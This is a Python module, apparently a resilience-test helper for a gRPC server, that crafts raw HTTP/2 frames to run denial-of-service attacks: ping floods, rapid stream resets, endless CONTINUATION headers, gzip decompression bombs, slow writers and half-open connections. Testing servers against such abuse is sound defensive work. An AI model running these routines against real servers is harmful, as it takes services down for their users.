"""HTTP/2 connections made by hand: floods, resets, endless headers, idle and half-open peers."""

from __future__ import annotations

import gzip
import socket
import struct
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from itertools import count

from pooling_wire import FORWARD

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, END_HEADERS = 1, 4


def frame(type_: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", type_, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header that no table remembers (RFC 7541, section 6.2.2), shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers(path: str, *more: tuple[bytes, bytes]) -> bytes:
    """Return the header block of a call."""
    pairs = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    )
    return b"".join(literal(name, value) for name, value in pairs)


@contextmanager
def connected(address: str) -> Iterator[socket.socket]:
    """Open a connection and send the preface; do not read."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=20) as peer:
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
        yield peer


def ping_flood(peer: socket.socket) -> Iterator[None]:
    """Send pings without a pause, a thousand each time."""
    pings = frame(PING, 0, 0, b"12345678") * 1000
    while True:
        peer.sendall(pings)
        yield


def rapid_reset(peer: socket.socket) -> Iterator[None]:
    """Open and reset streams without a pause, a hundred each time."""
    headers = request_headers(FORWARD.path)
    for stream in count(1, 200):
        peer.sendall(
            b"".join(
                frame(HEADERS, END_HEADERS, id_, headers)
                + frame(RST_STREAM, 0, id_, struct.pack(">I", 8))
                for id_ in range(stream, stream + 200, 2)
            )
        )
        yield


def endless_headers(peer: socket.socket) -> Iterator[None]:
    """Send a header block that never ends, 16 KiB each time."""
    block = literal(b"x-filler", b"a" * 100) * 140
    peer.sendall(frame(HEADERS, 0, 1, request_headers(FORWARD.path)))
    while True:
        peer.sendall(frame(CONTINUATION, 0, 1, block))
        yield


def gzip_bombs(peer: socket.socket) -> Iterator[None]:
    """Send messages of 64 KB that unpack to 64 MiB."""
    bomb = gzip.compress(bytes(64 << 20), 6)
    message = b"\1" + struct.pack(">I", len(bomb)) + bomb
    headers = request_headers(FORWARD.path, (b"grpc-encoding", b"gzip"))
    for stream in count(1, 2):
        peer.sendall(frame(HEADERS, END_HEADERS, stream, headers))
        parts = [message[start : start + 16384] for start in range(0, len(message), 16384)]
        for number, part in enumerate(parts):
            flags = END_STREAM if number == len(parts) - 1 else 0
            peer.sendall(frame(DATA, flags, stream, part))
        yield


def slow_writer(peer: socket.socket) -> Iterator[None]:
    """Send a message a byte at a time."""
    peer.sendall(frame(HEADERS, END_HEADERS, 1, request_headers(FORWARD.path)))
    peer.sendall(frame(DATA, 0, 1, b"\0" + struct.pack(">I", 1 << 20)))
    while True:
        peer.sendall(frame(DATA, 0, 1, b"\0"))
        yield


def half_open(peer: socket.socket) -> Iterator[None]:
    """Send half of a header block, and nothing more."""
    peer.sendall(frame(HEADERS, 0, 1, request_headers(FORWARD.path)[:40]))
    while True:
        yield


def drain(peer: socket.socket) -> None:
    """Discard what the server has sent, without waiting.

    Raises:
        ConnectionError: the server has closed the connection.
    """
    peer.setblocking(False)
    with suppress(BlockingIOError):
        while data := peer.recv(1 << 16):
            del data
        raise ConnectionError("closed by the server")
    peer.settimeout(20)
